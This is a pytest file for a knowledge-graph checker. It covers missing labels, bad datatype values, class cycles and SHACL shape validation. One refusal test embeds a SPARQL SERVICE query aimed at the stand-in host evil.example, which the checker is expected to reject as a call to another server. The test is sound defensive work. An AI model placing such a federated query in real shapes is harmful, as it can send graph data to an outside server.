"""Checks of a graph: what is found, what is left alone, and where it is said to be."""

from __future__ import annotations

from pathlib import Path

import pytest

from convrag.errors import GraphError
from convrag.graph.model import KnowledgeGraph
from convrag.graph.rdf import read_rdf
from convrag.graph.shapes import Finding, check, check_shapes
from convrag.types import Triple
from tests.graph.graph_text import EX, PREFIXES

NAMES = """
ex:height rdfs:label "height"@en, "高度"@zh ; cv:unit "m" .
ex:in rdfs:label "in"@en . ex:City rdfs:label "city"@en, "город"@ru .
"""
SHAPES = """
@prefix sh: <http://www.w3.org/ns/shacl#> .
ex:CityShape a sh:NodeShape ; sh:targetClass ex:City ;
    sh:property [ sh:path ex:height ; sh:datatype xsd:decimal ; sh:maxCount 1 ;
        sh:message "eine Höhe / 一个高度 / одна высота / ارتفاع واحد / एक ऊँचाई / 高さは一つ" ] ;
    sh:property [ sh:path rdfs:label ; sh:minCount 1 ; sh:severity sh:Warning ] .
"""


def read(folder: Path, *texts: str) -> tuple[Triple, ...]:
    triples: list[Triple] = []
    for number, text in enumerate(texts):
        path = folder / f"{number}.ttl"
        path.write_text(PREFIXES + text, encoding="utf-8")
        triples += read_rdf(path, source=path.name)
    return tuple(triples)


def checked(folder: Path, *texts: str) -> tuple[Finding, ...]:
    triples = read(folder, NAMES, *texts)
    return check(KnowledgeGraph(triples), triples)


def shapes(folder: Path, text: str = SHAPES) -> Path:
    path = folder / "shapes.ttl"
    path.write_text(PREFIXES + text, encoding="utf-8")
    return path


def test_a_sound_graph_has_no_findings(tmp_path: Path) -> None:
    names = '"Wien"@de, "Вена"@ru, "فيينا"@ar, "विएना"@hi, "ウィーン"@ja, "维也纳"@zh'
    assert not checked(
        tmp_path,
        f"ex:vienna a ex:City ; rdfs:label {names} ; ex:height 151.0 ; ex:in ex:austria ; "
        'rdfs:seeAlso <https://elsewhere.example/Vienna> . ex:austria rdfs:label "Austria" . '
        "ex:City rdfs:subClassOf ex:City .",
    )


def test_missing_names_are_found(tmp_path: Path) -> None:
    found = checked(tmp_path, "ex:vienna a ex:Town ; ex:near [ ex:in ex:vienna ] .")
    assert [(f.subject.removeprefix(EX), f.source, f.message) for f in found] == [
        ("Town", "1.ttl", "this class has no label"),
        ("near", "1.ttl", "this property has no label"),
        ("vienna", "1.ttl", "has no label in any language"),
    ]
    assert {f.severity for f in found} == {"violation"}


def test_references_to_nothing_are_found(tmp_path: Path) -> None:
    (found,) = checked(tmp_path, 'ex:a rdfs:label "A" ; ex:in ex:lost .')
    assert (found.subject, found.path) == (EX + "a", EX + "in")
    assert found.message == f"refers to {EX}lost, of which nothing is said"


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("twelve", "integer"),
        ("１２", "integer"),
        ("1.5", "int"),
        ("99999999999", "int"),
        ("-1", "nonNegativeInteger"),
        ("1,5", "decimal"),
        ("1e", "double"),
        ("2026-02-30", "date"),
        ("30.11.2026", "date"),
        ("2026-11-25T25:00:00", "dateTime"),
        ("yes", "boolean"),
        ("26", "gYear"),
    ],
)
def test_values_that_are_none_of_their_datatype(tmp_path: Path, value: str, kind: str) -> None:
    (found,) = checked(tmp_path, f'ex:a rdfs:label "A" ; ex:height "{value}"^^xsd:{kind} .')
    assert found.message == f"'{value}' is no xsd:{kind}"
    assert (found.subject, found.path, found.source) == (EX + "a", EX + "height", "1.ttl")


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("-12", "integer"),
        ("+.5", "decimal"),
        ("-INF", "double"),
        ("2024-02-29Z", "date"),
        ("-0044-03-15", "date"),
        ("2026-11-25T24:00:00+01:00", "dateTime"),
        (" 7 ", "int"),
        ("anything", "anyURI"),
    ],
)
def test_values_that_are_right(tmp_path: Path, value: str, kind: str) -> None:
    assert not checked(tmp_path, f'ex:a rdfs:label "A" ; ex:height "{value}"^^xsd:{kind} .')


def test_classes_above_themselves_are_found_once(tmp_path: Path) -> None:
    (found,) = checked(
        tmp_path,
        "".join(
            f'ex:{a} rdfs:label "{a}" ; rdfs:subClassOf ex:{b} . '
            for a, b in (("K1", "K2"), ("K2", "K3"), ("K3", "K1"), ("K4", "K1"))
        ),
    )
    assert found.message == f"is above itself: {EX}K1 → {EX}K2 → {EX}K3 → {EX}K1"


def test_measures_without_a_unit_are_a_warning(tmp_path: Path) -> None:
    (found,) = checked(
        tmp_path,
        'ex:width rdfs:label "width" . ex:a rdfs:label "A" ; ex:width 1.5, 2.5 ; ex:in 7 .',
    )
    assert (found.severity, found.subject) == ("warning", EX + "width")
    assert found.message.startswith("is measured 2 times")


def test_shapes_say_where_a_graph_breaks_them(tmp_path: Path) -> None:
    pytest.importorskip("pyshacl")
    triples = read(
        tmp_path,
        'ex:a a ex:City ; rdfs:label "甲"@zh ; ex:height 1.0 .',
        "ex:b a ex:City ; ex:height 1.0, 2.0 .",
        '[] a ex:City ; rdfs:label "Город"@ru ; ex:height "hoch" .',
    )
    found = check_shapes(triples, shapes(tmp_path))
    assert [(f.severity, f.source, f.subject, f.path) for f in found] == [
        ("violation", "1.ttl", EX + "b", EX + "height"),
        ("violation", "2.ttl", "_:2.ttl:b0", EX + "height"),
        ("warning", "1.ttl", EX + "b", "http://www.w3.org/2000/01/rdf-schema#label"),
    ]
    assert "एक ऊँचाई" in found[0].message
    assert found[1].message.endswith(": hoch")


SHAPE = (
    "@prefix sh: <http://www.w3.org/ns/shacl#> . ex:S a sh:NodeShape ; sh:targetClass ex:City ; "
)


def test_shapes_that_lead_to_themselves_are_followed(tmp_path: Path) -> None:
    pytest.importorskip("pyshacl")
    text = SHAPE + "sh:property [ sh:path ex:in ; sh:minCount 1 ; sh:node ex:S ] ."
    (found,) = check_shapes(read(tmp_path, "ex:a a ex:City ."), shapes(tmp_path, text))
    assert (found.subject, found.path) == (EX + "a", EX + "in")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (SHAPE + 'sh:property [ sh:path ex:in ; sh:pattern "(" ] .', "unterminated"),
        (SHAPE + 'sh:property [ sh:path ex:in ; sh:minCount "viele" ] .', "minCount"),
        (SHAPE + 'sh:sparql [ sh:select "SELECT $this WHERE { $this }" ] .', "Expected"),
        (SHAPE + 'sh:sparql [ sh:select "SELECT $this { $this ?p ?o MINUS {} }" ] .', "MINUS"),
        ("ex:a ex:b ex:c .", "no SHACL shapes"),
        ("ex:a ex:b", "shapes.ttl:9"),
        (
            "@prefix sh: <http://www.w3.org/ns/shacl#> . ex:S a sh:NodeShape ; "
            'sh:targetClass ex:City ; sh:sparql [ sh:select "SELECT $this WHERE { '
            'SERVICE <http://evil.example/> { $this ?p ?o } }" ] .',
            "another server",
        ),
        (
            "@prefix sh: <http://www.w3.org/ns/shacl#> . ex:S a sh:NodeShape ; "
            "sh:targetClass ex:City ; sh:property [ sh:minCount 1 ] .",
            "shapes.ttl",
        ),
    ],
)
def test_bad_shapes_are_refused(tmp_path: Path, text: str, reason: str) -> None:
    pytest.importorskip("pyshacl")
    with pytest.raises(GraphError) as caught:
        check_shapes(read(tmp_path, "ex:a a ex:City ; ex:in ex:b ."), shapes(tmp_path, text))
    assert reason in caught.value.message
    assert caught.value.hint
